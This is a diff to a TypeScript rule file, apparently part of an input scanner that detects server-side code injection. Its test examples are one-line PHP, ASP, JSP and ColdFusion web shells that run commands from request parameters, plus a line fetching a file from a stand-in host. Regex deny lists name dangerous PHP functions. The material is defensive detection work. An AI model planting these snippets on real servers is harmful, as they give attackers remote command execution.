@@ -1,5 +1,6 @@
 import { confidence } from '../../placement/confidence.ts';
 import { firstOf, foundBy, offsetsOf } from '../../placement/evidence.ts';
+import { isProse } from '../../placement/prose.ts';
 import type { Subject } from '../../placement/subject.ts';
 import { charClass } from '../../text/char-class.ts';
 import type { Match, ValueRule } from '../rule.ts';
@@ -15,33 +16,40 @@ export const phpTag: ValueRule = {
   },
   judge: judgeTag,
   examples: [
-    '<?php system($_GET["c"]); ?>',
-    '<?=`id`?>',
-    '<? passthru("id"); ?>',
-    '<?php echo 1;',
+    ...['<?php system($_GET["c"]); ?>', '<?=`id`?>', '<? passthru("id"); ?>', '<?php echo 1;'],
     '```php\n<?php $f = "sys"."tem"; $f("id");\n```',
     '```\n<?php echo shell_exec($_GET[0]);\n```',
     'Please have a look at <?php phpinfo(); ?> and tell me what you see',
     'hello there my dear <?php the_title($_GET[1]); ?> friend',
-    '<script language="php">system("id");</script>',
-    'GIF89a<?php @eval($_POST[1]);',
+    ...['<script language="php">system("id");</script>', 'GIF89a<?php @eval($_POST[1]);'],
+    ...['unlink("a.php");', 'copy("//e.test/x", "a.php");', 'echo implode(file("a.php"));'].map(
+      inBlock,
+    ),
+    ...['$f = "sys"."tem"; $f     ("id");', '$f = "sys"."tem"; $f // x\n("id");'].map(inBlock),
+    ...[
+      'echo new SplFileObject("a.php");',
+      "$a = '```'; unlink('a');",
+      "$a = \"'\"; $b = '\n```\n'; `id`;",
+    ].map(inBlock),
+    'This is what I have so far:\n\n<?php $a = "?>"; unlink ("a.php");',
   ],
   lookalikes: [
-    '<?xml version="1.0" encoding="UTF-8"?><a/>',
-    'is a <? b',
-    'PHP code starts with an opening tag',
-    'what is this <?> sign',
-    '<?php tag is not closed',
-    'The tag is <?php',
-    '<h1><?= $page->title ?></h1>',
-    'Use <?= $this->e($name) ?> in Plates templates',
+    ...['<?xml version="1.0" encoding="UTF-8"?><a/>', 'is a <? b', 'The tag is <?php'],
+    ...['PHP code starts with an opening tag', 'what is this <?> sign', '<?php tag is not closed'],
+    '```php\n<?php\n#[ScopedBy([Old::class])]\nclass User extends Model {}\n```',
+    ...['<h1><?= $page->title ?></h1>', 'Use <?= $this->e($name) ?> in Plates templates'],
     '```php\n<?php\nnamespace App;\nclass Foo {\n  public function bar() { return 1; }\n}\n```',
     'It fails:\n\n```\n<?php\nforeach ($rows as $row) {\n  echo $row["name"];\n}\n```',
     'My page only has <?php echo date("Y"); ?> in the footer, how do I cache it?',
     'In WordPress put <?php the_title(); ?> into the file single.php',
     'the "<?php" line comes first',
+    'Here is my PHP code:\n\n<?php\n$rows = $db->query("SELECT * FROM items WHERE name LIKE \'a%\'");\nwhile ($row = $rows->fetch_assoc()) { echo $row["name"]; }\n?>\n\nIt prints nothing, why is that?',
   ],
 };
+
+function inBlock(code: string): string {
+  return `My code:\n\n\`\`\`php\n<?php ${code}\n\`\`\``;
+}
 
 function judgeTag(subject: Subject): Match | undefined {
   const text = subject.text;
@@ -68,7 +76,7 @@ function tagScore(text: string, at: number): number {
     if (codeMark.test(body))
       return isShown(text, at)
         ? confidence.trace
-        : isFenced(text, at)
+        : isListed(text, at)
           ? confidence.hint
           : confidence.certain;
     const isQuoted = quotedTag.test(body) || (at > 0 && bareTag.test(body));
@@ -91,21 +99,51 @@ function isShown(text: string, at: number): boolean {
   return sentence.test(`${before} ${text.slice(end, end + aroundChars)}`);
 }
 
-/** A block of code in Markdown, with nothing in it that runs commands or other code. */
-function isFenced(text: string, at: number): boolean {
-  if (!fence.test(text.slice(Math.max(0, at - 12), at))) return false;
-  const end = text.indexOf('```', at);
-  if (end < 0 || end - at > fencedMax) return false;
-  const block = text.slice(at, end);
-  return !running.test(block) && !calledValue.test(block);
+/**
+ * A listing in a block of code, or on lines of its own behind a sentence, that runs no command or other
+ * code. PHP knows no fence: one in its code is an error, and one in a literal or comment is none.
+ */
+function isListed(text: string, at: number): boolean {
+  const before = text.slice(Math.max(0, at - saidMax), at);
+  const isBlock = fence.test(before.slice(-nameMax));
+  if (!isBlock && !(ownLine.test(before.slice(-nameMax)) && isProse(before))) return false;
+  const [code = ''] = text.slice(at, at + listedMax).split(isBlock ? fencedEnd : '?>', 1);
+  const isEnded = isBlock ? at + code.length < text.length : code.length < listedMax;
+  if (!isEnded || running.test(code) || !wholeTokens.test(`${code.replaceAll(escapes, '')}\n`))
+    return false;
+  return (
+    code.split('(').slice(0, -1).every(isPlainCall) && code.split('{$').slice(1).every(isPlain)
+  );
+}
+
+/** What stands in front of a parenthesis calls nothing that reaches a file, a machine or other code. */
+function isPlainCall(text: string): boolean {
+  const last = text.slice(-nameMax);
+  const name = last.trimEnd();
+  return !last.slice(name.length).includes('\n') && !madeName.test(name) && !reaching.test(name);
+}
+
+/** `{$row['name']}` in a literal: no quote that would end it elsewhere. */
+function isPlain(text: string): boolean {
+  return interpolated.test(text.slice(0, nameMax));
 }
 
 const fence = /```(?:php)?\r?\n\s{0,4}$/;
-const fencedMax = 4_000;
+const ownLine = /\n\s{0,4}$/;
+const fencedEnd = /\n```|\?>/;
+const listedMax = 4_000;
+const nameMax = 80;
+const saidMax = 400;
 const running =
-  /exec|system|passthru|popen|proc_|eval|assert|phpinfo|_file|file_|open|readdir|scandir|glob|include|require|uname|getenv|source|dl\(|mail|decode|inflate|rot13|unserialize|create_function|call_|array_map|sort|filter|walk|reduce|register_|callback|reflection|extract|parse_str|ini_|\$GLOBALS|`/i;
-/** `$f(…)`, `$_GET[0](…)`, `('a'.'b')(…)`: a function whose name is made as the program runs. */
-const calledValue = /\$\w{1,60}\s{0,4}\(|[\])}'"]\s{0,4}\(|\$\{|\$\$/;
+  /exec|system|passthru|popen|proc_|eval|assert|phpinfo|_file|file_|open|readdir|scandir|glob|include|require|uname|getenv|source|dl\(|decode|inflate|rot13|unserialize|create_function|call_|array_map|sort|filter|walk|reduce|register_|callback|reflection|extract|parse_str|ini_|\$GLOBALS|`|<<<|\$\{|\$\$|\bas\b(?! \$)|spl_|splf|splt|directory|iterator|soap|simplexml|xmlreader|xmlwriter|domdoc|ziparch|imagick|\bffi\b|phar|sqlite|finfo/i;
+const escapes = /\\['"\\]/g;
+/** Literals and comments end where they should. */
+const wholeTokens = /^(?:[^'"#/]|'[^']*'|"[^"]*"|\/\/[^\n]*\n|#[^'"/\n]*\n|\/\*[^/]*\*\/)*$/;
+const interpolated = /^[\w>[\]'-]{1,60}\}/;
+/** `$f(…)`, `$_GET[0](…)`, `('a'.'b')(…)`: a name that is made as the program runs. */
+const madeName = /(?:^|[\])}'"$]|\*\/)\w{0,80}$/;
+const reaching =
+  /(?<!\w)(?:(?:proc|posix|pcntl|curl|ftp|ssh2|f?socket|pfsock|stream|imap|highlight|show|php|apache|gz|bz|image|forward|session_sa|session_set|set_|ob_|array_u|array_diff_u|array_intersect_u)\w{0,40}|mail|file|readfile|readgzfile|tmpfile|unlink|copy|rename|rmdir|mkdir|dir|chdir|touch|chmod|chown|lchown|link|symlink|readlink|tempnam|getcwd|error_log|get_defined_vars|fromcallable|mb_ereg_replace|preg_replace|fread)$/i;
 
 const aroundChars = 80;
 const templateLine =
@@ -142,20 +180,14 @@ export const serverPage: ValueRule = {
   trigger: { literals: [['<%', '<jsp:', 'runat', '<cf']] },
   judge: judgePage,
   examples: [
-    '<% eval request("x") %>',
-    '<%execute(request("c"))%>',
-    '<%@ page import="java.io.*" %>',
-    '<jsp:scriptlet>Runtime.getRuntime()</jsp:scriptlet>',
-    '<% out.println(3*4); %>',
+    ...['<% eval request("x") %>', '<%execute(request("c"))%>', '<%@ page import="java.io.*" %>'],
+    ...['<jsp:scriptlet>Runtime.getRuntime()</jsp:scriptlet>', '<% out.println(3*4); %>'],
     '<script runat="server">Sub Page_Load()</script>',
     '<cfexecute name="cmd.exe"></cfexecute>',
   ],
   lookalikes: [
-    '<%= user.name %>',
-    'less than <% of people',
-    'Use <%- include("header") %> in EJS',
-    'a 5<%7 b',
-    '<cfg name="x">',
+    ...['<%= user.name %>', 'less than <% of people', 'Use <%- include("header") %> in EJS'],
+    ...['a 5<%7 b', '<cfg name="x">'],
   ],
 };
 
